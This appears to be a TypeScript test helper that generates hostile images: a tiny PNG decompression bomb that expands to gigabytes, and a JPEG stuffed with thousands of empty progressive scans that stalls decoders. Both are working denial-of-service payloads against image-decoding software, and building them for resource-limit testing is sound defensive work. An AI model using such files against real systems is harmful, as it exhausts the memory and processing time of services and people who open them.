// Pictures made to hurt whoever opens them: small files that cost a decoder gigabytes or minutes.
import { crc32, deflateSync } from 'node:zlib'

/** A black PNG of one bit per pixel, made row by row from zeros. */
export function flatPng(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data])
    const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(data.length)
    check.writeUInt32BE(crc32(body))
    return Buffer.concat([length, body, check])
  }
  const size = Buffer.alloc(13)
  size.writeUInt32BE(width, 0)
  size.writeUInt32BE(height, 4)
  size.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc(height * (Math.ceil(width / 8) + 1)))
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')
  return Buffer.concat([signature, chunk('IHDR', size), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

/**
 * The same JPEG with so many allowed scans: its first one, then one for each frequency and bit, each of them saying
 * that there is nothing to add.
 */
export function withScans(jpeg: Buffer, count: number): Buffer {
  const segments = readSegments(jpeg)
  const firstScan = segments.findIndex(({ marker }) => marker === 0xda)
  const at = segments.findIndex(({ marker, bytes }) => marker === 0xda && bytes[4] === 1 && bytes[5] === 1)
  const empty = segments[at]?.bytes ?? Buffer.alloc(0)
  const tables = segments.slice(firstScan + 1, at).filter(({ marker }) => marker === 0xc4)
  const scans = Array.from({ length: count }, (_, i) => {
    const [frequency, bit] = [1 + (i % 63), 13 - Math.floor(i / 63)]
    const scan = Buffer.from(empty)
    scan.set([frequency, frequency, bit === 13 ? bit : ((bit + 1) << 4) | bit], 7)
    return scan
  })
  const start = segments.slice(0, firstScan + 1).map(({ bytes }) => bytes)
  const parts = [...start, ...tables.map(({ bytes }) => bytes), ...scans]
  return Buffer.concat([jpeg.subarray(0, 2), ...parts, Buffer.from([0xff, 0xd9])])
}

function readSegments(jpeg: Buffer): { marker: number; bytes: Buffer }[] {
  const starts: number[] = []
  let at = 2
  while (jpeg[at + 1] !== 0xd9) {
    starts.push(at)
    at += 2 + jpeg.readUInt16BE(at + 2)
    while (jpeg[at] !== 0xff || jpeg[at + 1] === 0) at += 1
  }
  return starts.map((start, i) => ({
    marker: jpeg[start + 1] ?? 0,
    bytes: jpeg.subarray(start, starts[i + 1] ?? at),
  }))
}
